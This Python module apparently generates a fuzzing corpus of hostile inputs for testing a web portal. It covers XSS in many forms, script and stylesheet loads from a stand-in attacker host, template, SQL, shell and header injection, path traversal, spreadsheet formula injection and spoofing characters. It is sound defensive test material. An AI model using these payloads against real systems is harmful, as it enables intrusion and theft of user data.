"""Hostile text, made by construction: a few ways to run, times many ways to get there.

What runs calls `__hit(1)`; what is loaded from elsewhere comes from foreign.example.
"""

from collections.abc import Iterable, Iterator
from itertools import product

CALL, FOREIGN = "__hit(1)", "//foreign.example/x"
# What ends the place where a text may stand, so that what follows is markup again.
ENDS = (
    "", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</bdi></a></td></tr></table>",
    "</option></datalist>", "</code></pre>",
)  # fmt: skip


def scripts() -> Iterator[str]:
    bodies = (
        f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<script/x>{CALL}</script >", f"<script\n>{CALL}</script\n>",
        f"<script type=module>{CALL}</script>", f"<script src={FOREIGN}.js></script>", f"<script>{CALL}//",
        f'<script src="data:text/javascript,{CALL}"></script>',
    )  # fmt: skip
    yield from (end + body for end, body in product(ENDS, bodies))
    yield from (
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<<script>{CALL}//<</script>",
        f"<script nonce=x>{CALL}</script>",
    )


def handlers() -> Iterator[str]:
    by_itself = (
        ("img src=x", "error"), ("img src=/static/portal/icon.svg", "load"), ("svg", "load"), ("body", "load"), ("details open", "toggle"),
        ("input autofocus", "focus"), ("video src=x", "error"), ("audio src=x", "error"), ("select autofocus", "focus"),
        ("iframe", "load"), ("object data=x", "error"), ("marquee", "start"), ("link rel=stylesheet href=x", "error"),
        ("textarea autofocus", "focus"), ("video><source src=x", "error"), ("button popovertarget=x autofocus", "focus"),
    )  # fmt: skip
    for (tag, event), (open_, close) in product(by_itself, (('"', '"'), ("'", "'"), ("", ""))):
        yield f"<{tag} on{event}={open_}{CALL}{close}>"
    yield from (f'"><{tag.upper()} ON{event.upper()}={CALL}>' for tag, event in by_itself)
    yield from (f"<{tag.replace(' ', '/')}/on{event}={CALL}//" for tag, event in by_itself)


def attributes() -> Iterator[str]:
    events = ("mouseover", "focus", "click", "pointerenter", "animationstart", "transitionend", "beforetoggle", "error")
    for event, quote in product(events, ('"', "'", "")):
        yield f"x{quote} on{event}={quote}{CALL}{quote} autofocus tabindex=0 x={quote}"
    yield from (f"x{quote} style={quote}position:fixed;inset:0;background:url({FOREIGN})" for quote in ('"', "'", ""))
    yield from (
        f"x{quote} {name}={quote}{FOREIGN}" for quote, name in product("\"'", ("href", "src", "formaction", "ping"))
    )


def addresses() -> Iterator[str]:
    schemes = (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;",
        "&#106;avascript:", "javascript://security.microsoft.com/%0a", "vbscript:", "livescript:", "feed:javascript:",
    )  # fmt: skip
    yield from (scheme + CALL for scheme in schemes)
    pages = (f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD4=", FOREIGN, f"https:{FOREIGN}",
             "https://security.microsoft.com@foreign.example/", "https://security.microsoft.com.foreign.example/",
             "https://foreign.example\\.security.microsoft.com/", "https://xn--security-microsoft.example/", "\\\\foreign.example\\x")  # fmt: skip
    yield from pages
    leading = (f"javascript:{CALL}", *pages[:3])
    for address in leading:
        yield from (f"<a href='{address}' autofocus>x</a>", f"<form action='{address}'><button autofocus>x</button></form>",
                    f"<iframe src='{address}'></iframe>", f"<object data='{address}'></object>", f"<embed src='{address}'>",
                    f"<meta http-equiv=refresh content='0;url={address}'>", f"<base href='{address}'>",
                    f"<link rel=stylesheet href='{address}'>", f"<input type=image src='{address}'>",
                    f"<math href='{address}'>x</math>", f"<area href='{address}'>")  # fmt: skip


def drawings() -> Iterator[str]:
    inner = (
        f"<script>{CALL}</script>", f"<animate onbegin={CALL} attributeName=x dur=1s>", f"<set onbegin={CALL} attributeName=x>",
        f"<a xlink:href='javascript:{CALL}'><text>x</text></a>", f"<use href='data:image/svg+xml,<svg onload={CALL}/>#x'/>",
        f"<foreignObject><iframe srcdoc='<script>parent.{CALL}</script>'></iframe></foreignObject>", f"<image href='{FOREIGN}'/>",
        f"<style>@import '{FOREIGN}';</style>", f"<title><img src=x onerror={CALL}></title>", f"<discard onbegin={CALL}>",
        f"<animate attributeName=href values='javascript:{CALL}'/>", f"<handler type='application/ecmascript'>{CALL}</handler>",
    )  # fmt: skip
    yield from (f"{end}<svg>{body}</svg>" for end, body in product(("", '">'), inner))


def styles() -> Iterator[str]:
    rules = (f"@import url({FOREIGN})", f"*{{background:url({FOREIGN})}}", f"input[value^=a]{{background:url({FOREIGN})}}",
             f"@font-face{{font-family:x;src:url({FOREIGN})}}", "main{position:fixed;inset:0}", f"p{{x:expression({CALL})}}")  # fmt: skip
    yield from (f"{end}<style>{rule}</style>" for end, rule in product(("", '">', "</style>"), rules))
    yield from (f"<p style='{rule.partition('{')[2].rstrip('}') or rule}'>x</p>" for rule in rules)


def templates() -> Iterator[str]:
    terms = (
        "7*7",
        "settings.SECRET_KEY",
        "request.session",
        f"constructor.constructor('{CALL}')()",
        "x|safe",
        "self.__class__.__mro__",
    )
    marks = (
        ("{{", "}}"),
        ("${", "}"),
        ("<%=", "%>"),
        ("#{", "}"),
        ("[[", "]]"),
        ("{%", "%}"),
        ("*{", "}"),
        ("{{{", "}}}"),
    )
    yield from (f"{begin} {term} {end}" for term, (begin, end) in product(terms, marks))
    yield from (
        "{% debug %}",
        '{% include "base.html" %}',
        "{% autoescape off %}",
        "{# x #}",
        "{% comment %}",
        "{% load ui %}",
        "{% csrf_token %}",
    )


def policies() -> Iterator[str]:
    yield from (
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", "<script src=/static/portal/js/app.js></script>",
        f"<iframe srcdoc=\"<script>parent.{CALL}</script>\"></iframe>", f"<iframe src='about:blank' onload={CALL}></iframe>",
        f"<link rel=modulepreload href={FOREIGN}>", f"<link rel=prefetch href={FOREIGN}>", f"<link rel=dns-prefetch href={FOREIGN}>",
        f"<link rel=preconnect href=https:{FOREIGN}>", f"<link rel=manifest href={FOREIGN}>", f"<form action={FOREIGN}><input type=submit>",
        f"<img src='{FOREIGN}?", f'<img src="{FOREIGN}?', f"<button form=filters formaction={FOREIGN}>x</button>", f"<video poster={FOREIGN}>",
        f"<img srcset={FOREIGN}>", f"<track src={FOREIGN}>", f"<portal src={FOREIGN}>", "<script type=speculationrules>{}</script>",
        f'<script type=importmap>{{"imports":{{"x":"{FOREIGN}"}}}}</script>', f"<a href=/ ping={FOREIGN}>x</a>", "<frameset><frame src=/>",
        f"<object type=text/html data=/sync onload={CALL}></object>", f"<a href={FOREIGN} target=_blank rel=opener>x</a>",
    )  # fmt: skip


def hypertext() -> Iterator[str]:
    """Attributes that htmx and its like would act on."""
    does = (
        'hx-get="/sync"', 'hx-post="/sign-out"', f'hx-get="{FOREIGN}"', 'data-hx-get="/sync"', 'data-hx-post="/sign-out"',
        f'hx-vals="js:{{a:{CALL}}}" hx-get="/"', f'hx-headers="js:{{a:{CALL}}}" hx-get="/"', 'hx-delete="/"', 'hx-boost="true"',
    )  # fmt: skip
    when = ('hx-trigger="load"', 'hx-trigger="every 1s"', f'hx-trigger="load[{CALL}]"', 'data-hx-trigger="revealed"')
    yield from (f"<p {do} {at}>x</p>" for do, at in product(does, when))
    yield from (
        f'<p hx-on::load="{CALL}" hx-on:htmx:load="{CALL}">x</p>', f'<p data-hx-on-click="{CALL}">x</p>', f'<p _="on load call {CALL}">x</p>',
        f'<p x-data x-init="{CALL}">x</p>', f'<p ng-app ng-init="{CALL}">x</p>', f'<p v-on:click="{CALL}">x</p>',
        f'x" hx-on::load="{CALL}" hx-get="/" hx-trigger="load', "<p hx-swap-oob='true' id='results'>x</p>", "<p hx-ext='x' hx-ws='connect:/x'>x</p>",
        "<meta name=htmx-config content='{\"allowEval\":true,\"selfRequestsOnly\":false}'>", "<p hx-include='*' hx-get='/' hx-trigger='load'>x</p>",
    )  # fmt: skip


def clobbering() -> Iterator[str]:
    named = ("htmx", "q", "results", "said", "help", "document", "location", "usermenu")
    yield from (f"<img name={name} id={name}>" for name in named)
    yield from (f"<form id={name}><input name=href></form>" for name in named)


def mutations() -> Iterator[str]:
    """Text that turns into something else when it is parsed, written and parsed again."""
    image = f"<img src=x onerror={CALL}>"
    yield from (
        f"<{raw}><p title='</{raw}>{image}'>"
        for raw in ("noscript", "style", "xmp", "noembed", "noframes", "textarea", "title")
    )
    yield from (
        f"<{top}><{middle}><style><!--</style>{image}--></{top}>"
        for top, middle in product(("math", "svg"), ("mtext", "desc", "title", "mi"))
    )
    yield from (f"<table><{inner}>{image}" for inner in ("select", "template", "caption", "td"))
    yield from (
        "<plaintext>",
        "<!--",
        "<![CDATA[",
        "<?xml version='1.0'?>",
        "<!doctype x>",
        "</",
        "<",
        "<a",
        '<a href="',
        "&",
        "&lt",
        "</p></main></body></html>",
    )


def encodings() -> Iterator[str]:
    plain = f"<img src=x onerror={CALL}>"
    yield from (
        plain.replace("<", "&lt;"), plain.replace("<", "&#60;"), plain.replace("<", "&#x3c;"), plain.replace("<", "&amp;lt;"),
        plain.replace("<", "%3C"), plain.replace("<", "%253C"), plain.replace("<", "\\x3c"), plain.replace("<", "\\u003c"),
        plain.replace("<", "＜").replace(">", "＞"), plain.replace("<", "‹"), plain.replace("<", "+ADw-").replace(">", "+AD4-"),
        plain.replace("<", "\x00<"), plain.replace("i", "ı"), plain.replace("<", "<\x00"), plain.replace("=", "\u00a0="), plain.replace(" ", "\x0c"),
    )  # fmt: skip


def strings() -> Iterator[str]:
    """What ends a string in JSON, JavaScript, SQL, a shell, a header or a path."""
    yield from (
        f'"}}]</script><script>{CALL}</script>', f"'-{CALL}-'", f'"-{CALL}-"', f"`${{{CALL}}}`", f"';{CALL}//", f'";{CALL}//', f"\\';{CALL}//",
        f"*/{CALL}/*", f"\u2028{CALL}", f"\u2029{CALL}", f"</script\u2028>{CALL}", '\\"', "\\", '{"a":', '"\\ud83d', f"-->\n{CALL}", f"]}});{CALL}",
        "' OR 1=1 --", "'; DROP TABLE incidents_incident; --", "$$;SELECT 1;$$", "$(id)", "`id`", "; id", "| id", "../../../etc/passwd",
        "..\\..\\windows", "file:///etc/passwd", "\r\nSet-Cookie: a=b", "%0d%0aLocation: //foreign.example", "\x1b[2J\x1b]0;x\x07", "\x9b31m",
    )  # fmt: skip
    yield from (
        "%s%n%x%d",
        "%(customer)s",
        "%(x)s",
        "{}",
        "{0.__class__}",
        "{customer}",
        "%",
        "100 %",
        "%%",
        "{",
        "}",
        "{0",
        "%(",
        "$name",
        "\\1\\g<0>",
    )


def formulas() -> Iterator[str]:
    calls = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://foreign.example","x")', "IMPORTXML(A1)")
    yield from (
        sign + call
        for sign, call in product(("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠"), calls)
    )


def disguises() -> Iterator[str]:
    """Characters that turn, hide or break the words around them."""
    codes = (*range(0x20), 0x7F, *range(0x80, 0xA0, 5), 0xAD, 0x34F, 0x61C, 0x115F, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F),
             *range(0x2060, 0x2070), 0x2800, 0x3000, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFC, 0xE000, 0xE0041, 0xE0100, 0x1D173)  # fmt: skip
    yield from (f"invoice{chr(code)}fdp.exe" for code in codes)
    yield from (
        "\u202e" * 40,
        "\u2067right\u2069",
        "שלום <b>x</b>",
        "مرحبا \u202d<b>x</b>",
        "раураl.com",
        "ａｄｍｉｎ",
        "admin\u0338",
        "𝐚𝐝𝐦𝐢𝐧",
    )


def sizes() -> Iterator[str]:
    yield from (
        "x" * 10_000,
        "word " * 2_000,
        "<b>" * 500,
        "&" * 3_000,
        "e" + "\u0301" * 1_000,
        "\u200b" * 5_000,
        "َ" * 500,
        "W" * 300,
        "ﷺ" * 200,
    )
    yield from (
        "👩‍👩‍👧‍👦" * 100,
        "<div>" * 300 + "x",
        "\n" * 2_000 + "x",
        "a\u0300\u200d" * 300,
        "(" * 4_000,
        "]" * 2_000,
        '"' * 1_000,
        "<!--" * 200,
    )


FAMILIES = {
    make.__name__: list(dict.fromkeys(make()))
    for make in (scripts, handlers, attributes, addresses, drawings, styles, templates, policies, hypertext, clobbering, mutations,
                 encodings, strings, formulas, disguises, sizes)
}  # fmt: skip
PAYLOADS = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))


def spread(texts: Iterable[str] = PAYLOADS) -> list[str]:
    """The payloads in another order, so that any few that follow each other are of many families."""
    listed = list(texts)
    step = next(step for step in range(len(listed) * 5 // 13, len(listed)) if coprime(step, len(listed)))
    return [listed[number * step % len(listed)] for number in range(len(listed))]


def coprime(one: int, other: int) -> bool:
    while other:
        one, other = other, one % other
    return one == 1


def names() -> list[str]:
    """Those that a form takes as a name: one line, all of it visible."""
    fit = [text for text in spread() if text.isprintable() and text.strip() == text and len(text) <= 200]
    return [text for text in fit if text not in FAMILIES["disguises"]]
